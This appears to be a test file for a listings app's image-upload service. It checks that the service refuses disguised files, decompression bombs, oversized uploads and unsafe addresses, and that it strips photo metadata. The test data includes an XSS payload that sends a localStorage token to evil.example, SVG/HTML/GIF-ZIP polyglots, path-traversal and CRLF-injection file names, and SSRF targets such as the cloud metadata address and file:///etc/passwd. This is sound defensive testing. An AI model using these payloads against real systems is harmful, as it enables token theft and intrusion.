import { once } from 'node:events'
import { readdirSync } from 'node:fs'
import { createServer, request as httpRequest } from 'node:http'
import { type AddressInfo, connect } from 'node:net'
import { join } from 'node:path'
import { crc32, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { imageAt, imageLimits, imageWidths } from '../../../contract/images.ts'
import { aListing } from '../../../testkit/listings.ts'
import { aPerson, type Person } from '../../../testkit/people.ts'
import { aPhonePhoto, aPicture, multipart, upload } from '../../../testkit/pictures.ts'
import { openWorld, type World } from '../../../testkit/world.ts'

let world: World
let seller: Person
beforeAll(async () => {
  world = await openWorld()
  seller = await aPerson(world)
})
afterAll(() => world.close())

const aDraft = () => aListing(world, seller, { status: 'Draft', pictures: 0 })
const get = (url: string) => world.app.inject({ method: 'GET', url })
const storedFiles = () => {
  try {
    return readdirSync(join(world.dataDir, 'images'), { recursive: true })
      .map(String)
      .filter(name => name.includes('.'))
  } catch {
    return []
  }
}
const SCRIPT = '<script>fetch("//evil.example/?"+localStorage.t)</script>'

describe('case 25: files that are not what they say', () => {
  it.each([
    ['an SVG with a script', `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}</svg>`],
    ['an SVG behind an XML header', `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`],
    ['a page', `<!doctype html><html>${SCRIPT}</html>`],
    ['a GIF with an archive', `GIF89a\x01\x00\x01\x00\x00\x00\x00;PK\x03\x04${SCRIPT}`],
    ['a PDF', '%PDF-1.7\n1 0 obj'],
    ['nothing', ''],
  ])('refuses %s, whatever type and name it comes with', async (_what, text) => {
    const { id } = await aDraft()
    for (const [name, type] of [
      ['photo.jpg', 'image/jpeg'],
      ['photo.svg', 'image/svg+xml'],
    ] as const) {
      const answer = await upload(world, id, [{ content: Buffer.from(text, 'latin1'), name, type }], seller)
      expect([answer.status, answer.body.reason]).toEqual([415, 'not_an_image'])
    }
  })

  it('refuses an SVG that begins like a JPEG, a GIF or a TIFF that no loader is allowed to read', async () => {
    const { id } = await aDraft()
    const disguised = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(`<svg>${SCRIPT}</svg>`)])
    expect((await upload(world, id, [disguised], seller)).body.reason).toBe('image_unusable')
    for (const format of ['gif', 'tiff', 'avif'] as const) {
      const file = await sharp(await aPicture())
        .toFormat(format)
        .toBuffer()
      expect((await upload(world, id, [file], seller)).status).toBe(415)
      await expect(sharp(file).metadata()).rejects.toThrow(/unsupported/)
    }
  })

  it('takes a picture with a wrong type by what it is, and drops what hangs on it', async () => {
    const { id } = await aDraft()
    const polyglot = Buffer.concat([await aPicture({ format: 'png' }), Buffer.from(`${SCRIPT}PK\x03\x04`)])
    const { body } = await upload(world, id, [{ content: polyglot, name: 'a.html', type: 'text/html' }], seller)
    for (const width of imageWidths) {
      const reply = await get(imageAt(body.images[0]!, width))
      expect(reply.rawPayload.includes('script')).toBe(false)
      expect((await sharp(reply.rawPayload).metadata()).format).toBe('webp')
    }
  })

  it('serves pictures so that a browser can do nothing with them but show them', async () => {
    const { id } = await aListing(world, seller, { pictures: 0 })
    const { body } = await upload(world, id, [await aPicture()], seller)
    const { headers } = await get(body.images[0]!)
    expect(headers).toMatchObject({
      'content-type': 'image/webp',
      'x-content-type-options': 'nosniff',
      'content-disposition': expect.stringMatching(/^inline; filename="[0-9a-f-]{36}-640\.webp"$/),
    })
    expect(headers['content-security-policy']).toMatch(/^default-src 'none';.*sandbox$/)
  })
})

describe('case 26: files that cost too much', () => {
  /** A valid PNG of one bit a pixel, all black. */
  function blackPng(side: number): Buffer {
    const chunk = (type: string, data: Buffer) => {
      const body = Buffer.concat([Buffer.from(type), data])
      const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
      length.writeUInt32BE(data.length)
      sum.writeUInt32BE(crc32(body))
      return Buffer.concat([length, body, sum])
    }
    const header = Buffer.alloc(13)
    header.writeUInt32BE(side, 0)
    header.writeUInt32BE(side, 4)
    header[8] = 1
    const rows = deflateSync(Buffer.alloc(side * (Math.ceil(side / 8) + 1)))
    return Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      chunk('IHDR', header),
      chunk('IDAT', rows),
      chunk('IEND', Buffer.alloc(0)),
    ])
  }

  it('refuses 30,000 x 30,000 pixels in a small file before decoding them', async () => {
    const bomb = blackPng(30_000)
    expect(bomb.length).toBeLessThan(200_000)
    await world.house.images.add(blackPng(100))
    const [before, started] = [process.memoryUsage.rss(), performance.now()]
    await expect(world.house.images.add(bomb)).rejects.toMatchObject({ reason: 'image_unusable' })
    expect(performance.now() - started).toBeLessThan(1000)
    expect(process.memoryUsage.rss() - before).toBeLessThan(100 * 1024 * 1024)
  })

  it('takes 5 MB and not a byte more', async () => {
    const { id } = await aDraft()
    const photo = await aPicture()
    const padded = (bytes: number) => Buffer.concat([photo, Buffer.alloc(bytes - photo.length)])
    expect((await upload(world, id, [padded(imageLimits.bytes)], seller)).status).toBe(200)
    const { status, body } = await upload(world, id, [padded(imageLimits.bytes + 1)], seller)
    expect([status, body.reason]).toEqual([413, 'too_large'])
  })

  it('refuses a hundred parts, and files under another name', async () => {
    const { id } = await aDraft()
    const tiny = { content: Buffer.from('x') }
    const many = await upload(world, id, Array(100).fill({ ...tiny, field: 'note' }), seller)
    expect(many.status).toBeGreaterThanOrEqual(400)
    expect(many.status).toBeLessThan(500)
    expect((await upload(world, id, [{ content: await aPicture(), field: 'avatar' }], seller)).status).toBe(400)
  })

  it('decodes one frame of an animation of many', async () => {
    const frames = await Promise.all(
      ['#111111', '#222222'].map(colour => aPicture({ width: 64, height: 48, format: 'png', colour })),
    )
    const long = await sharp(
      Array.from({ length: 300 }, (_, at) => frames[at % 2]!),
      { join: { animated: true } },
    )
      .webp({ effort: 0 })
      .toBuffer()
    const stored = await world.house.images.add(long)
    expect([stored.width, stored.height]).toEqual([64, 48])
  })

  it('bounds the size of very long and very narrow pictures', async () => {
    const tall = await aPicture({ width: 40, height: 12_000, format: 'png' })
    const stored = await world.house.images.add(tall)
    expect(stored.height).toBeLessThanOrEqual(2560)
  })

  it('refuses a compressed request, and one that is no form', async () => {
    const { id } = await aDraft()
    const { payload, headers } = multipart([{ content: await aPicture() }])
    const send = (given: { headers: Record<string, string>; payload: Buffer | string }) =>
      world.app.inject({
        method: 'PUT',
        url: `/api/deadstock/${id}/images`,
        headers: { authorization: `Bearer ${seller.token}`, ...given.headers },
        payload: given.payload,
      })
    const zipped = await send({ headers: { ...headers, 'content-encoding': 'gzip' }, payload: gzipSync(payload) })
    expect(zipped.statusCode).toBe(415)
    const json = await send({ headers: { 'content-type': 'application/json' }, payload: '{"images":[]}' })
    expect(json.statusCode).toBe(415)
  })

  it('answers over a real connection at once when it refuses in the middle of the body', async () => {
    const { id } = await aDraft()
    await world.app.listen({ port: 0, host: '127.0.0.1' })
    const { port } = world.app.server.address() as AddressInfo
    const filler = Buffer.alloc(4 * 1024 * 1024, 'x')
    const { payload, headers } = multipart([{ content: filler }, { content: filler }, { content: filler }])
    const request = httpRequest({
      port,
      host: '127.0.0.1',
      method: 'PUT',
      path: `/api/deadstock/${id}/images`,
      // chunked: no length is told beforehand
      headers: { ...headers, authorization: `Bearer ${seller.token}` },
    })
    request.on('error', () => {})
    const answered = once(request, 'response', { signal: AbortSignal.timeout(5000) })
    for (let at = 0; at < payload.length; at += 512 * 1024) request.write(payload.subarray(at, at + 512 * 1024))
    request.end()
    const [response] = await answered
    expect(response.statusCode).toBe(415)
    response.resume()
    // the rest is read away, so that the connection ends well instead of being held
    await once(request, 'close', { signal: AbortSignal.timeout(5000) })
    const open = await new Promise<number>(resolve => world.app.server.getConnections((_, count) => resolve(count)))
    expect(open).toBeLessThanOrEqual(1)
  })

  it('cuts off who goes on sending after a refusal', async () => {
    const { id } = await aDraft()
    const { port } = world.app.server.address() as AddressInfo
    const { payload, headers } = multipart([{ content: Buffer.alloc(0) }])
    const socket = connect(port, '127.0.0.1')
    let cut = false
    socket.on('error', () => {}).on('close', () => (cut = true))
    socket.write(
      `PUT /api/deadstock/${id}/images HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${seller.token}\r\n` +
        `content-type: ${headers['content-type']}\r\ntransfer-encoding: chunked\r\n\r\n`,
    )
    const send = (bytes: Buffer) => {
      socket.write(`${bytes.length.toString(16)}\r\n`)
      socket.write(bytes)
      return socket.write('\r\n')
    }
    send(payload.subarray(0, payload.indexOf('\r\n\r\n') + 4))
    const megabyte = Buffer.alloc(1024 * 1024, 'x')
    let sent = 0
    for (; sent < 200 && !cut; sent++) if (!send(megabyte)) await new Promise(resolve => setTimeout(resolve, 5))
    socket.destroy()
    expect(sent).toBeLessThan(200)
  })

  it('refuses an upload that says beforehand that it is too large', async () => {
    const { id } = await aDraft()
    const { headers } = multipart([])
    const reply = await world.app.inject({
      method: 'PUT',
      url: `/api/deadstock/${id}/images`,
      headers: { ...headers, authorization: `Bearer ${seller.token}`, 'content-length': String(30 * 1024 * 1024) },
      payload: 'x',
    })
    expect([reply.statusCode, reply.json().reason]).toEqual([413, 'too_large'])
  })

  it('keeps nothing of an upload that breaks off', async () => {
    const { id } = await aDraft()
    const { port } = world.app.server.address() as AddressInfo
    const before = storedFiles()
    const { payload, headers } = multipart([{ content: await aPicture() }, { content: await aPicture() }])
    const request = httpRequest({
      port,
      host: '127.0.0.1',
      method: 'PUT',
      path: `/api/deadstock/${id}/images`,
      headers: { ...headers, 'content-length': payload.length, authorization: `Bearer ${seller.token}` },
    })
    request.on('error', () => {})
    request.write(payload.subarray(0, payload.length - 300))
    await expect.poll(() => storedFiles().length, { timeout: 5000 }).toBe(before.length + 3)
    request.destroy()
    await expect.poll(() => storedFiles(), { timeout: 5000 }).toEqual(before)
    const rows = await world.db.selectFrom('listing_images').select('image_id').where('listing_id', '=', id).execute()
    expect(rows).toEqual([])
  })
})

describe('case 27: what a photo tells about its maker', () => {
  it('is gone from every served size, and the photo is upright', async () => {
    const { id } = await aListing(world, seller, { pictures: 0 })
    const photo = await aPhonePhoto()
    const told = await sharp(photo).metadata()
    expect(told.exif!.toString('latin1')).toContain('SERIAL-0042')
    expect([told.orientation, told.xmp === undefined]).toEqual([6, false])

    const { body } = await upload(world, id, [photo], seller)
    for (const width of imageWidths) {
      const { rawPayload } = await get(imageAt(body.images[0]!, width))
      const facts = await sharp(rawPayload).metadata()
      expect([facts.exif, facts.xmp, facts.iptc, facts.icc, facts.orientation]).toEqual(Array(5).fill(undefined))
      for (const trace of ['EXIF', 'Exif', 'XMP', 'SERIAL', 'Example Phones', 'xmpmeta'])
        expect(rawPayload.includes(trace)).toBe(false)
      expect(facts.height).toBeGreaterThan(facts.width)
    }
  })
})

describe('case 28: names and addresses that point elsewhere', () => {
  it('never uses the name of a file', async () => {
    const { id } = await aDraft()
    const names = ['../../x.jpg', 'a\0b.jpg', `${'n'.repeat(10_240)}.jpg`, 'x.jpg.html', 'a%0d%0aset-cookie: t=1.jpg']
    for (const name of names) {
      const answer = await upload(world, id, [{ content: await aPicture(), name }], seller)
      if (answer.status !== 200) expect(answer.status).toBeLessThan(500)
      await world.api('PUT /deadstock/:id', { params: { id }, body: { data: { images: [] } } }, seller)
    }
    await upload(world, id, [{ content: await aPicture(), name: '../../x.jpg' }], seller)
    expect(storedFiles().length).toBeGreaterThan(0)
    for (const file of storedFiles()) expect(file).toMatch(/^[0-9a-f]{2}\/[0-9a-f-]{36}-(320|640|1280)\.webp$/)
    expect(readdirSync(world.dataDir)).toEqual(['images'])
  })

  it('takes no address from outside and asks nobody', async () => {
    let asked = 0
    const decoy = createServer((_request, reply) => {
      asked++
      reply.end()
    }).listen(0, '127.0.0.1')
    await once(decoy, 'listening')
    const origin = `http://127.0.0.1:${(decoy.address() as AddressInfo).port}`

    const { id } = await aListing(world, seller, { status: 'Draft' })
    const other = await aListing(world, await aPerson(world), { pictures: 0 })
    const foreign = await world.house.images.add(await aPicture())
    await world.db
      .insertInto('images')
      .values({ ...foreign, user_id: null })
      .execute()
    await world.db
      .insertInto('listing_images')
      .values({ listing_id: other.id, image_id: foreign.id, position: 0 })
      .execute()
    const before = await world.db.selectFrom('listing_images').selectAll().where('listing_id', '=', id).execute()
    for (const address of [
      'http://169.254.169.254/',
      `${origin}/images/${foreign.id}-640.webp`,
      'javascript:alert(1)',
      'file:///etc/passwd',
      `/images/${foreign.id}-640.webp`,
      '../../secret-key',
    ]) {
      const answer = await world.api(
        'PUT /deadstock/:id',
        { params: { id }, body: { data: { images: [address] } } },
        seller,
      )
      expect([answer.status, answer.body.errors?.[0]?.field]).toEqual([422, 'images'])
    }
    expect(await world.db.selectFrom('listing_images').selectAll().where('listing_id', '=', id).execute()).toEqual(
      before,
    )
    expect(asked).toBe(0)
    decoy.close()
  })

  it('replaces pictures while others read: every reply is a whole picture or none', async () => {
    const { id } = await aListing(world, seller, { pictures: 2 })
    const { body } = await upload(world, id, [await aPicture(), await aPicture()], seller)
    const replies = await Promise.all([
      ...Array.from({ length: 10 }, () => get(body.images[3]!)),
      world.api('PUT /deadstock/:id', { params: { id }, body: { data: { images: body.images.slice(0, 3) } } }, seller),
      ...Array.from({ length: 10 }, () => get(body.images[3]!)),
    ])
    for (const reply of replies)
      if ('rawPayload' in reply && reply.statusCode === 200)
        expect((await sharp(reply.rawPayload).metadata()).width).toBe(640)
    expect((await get(body.images[3]!)).statusCode).toBe(404)
    expect((await get(body.images[2]!)).statusCode).toBe(200)
  })
})
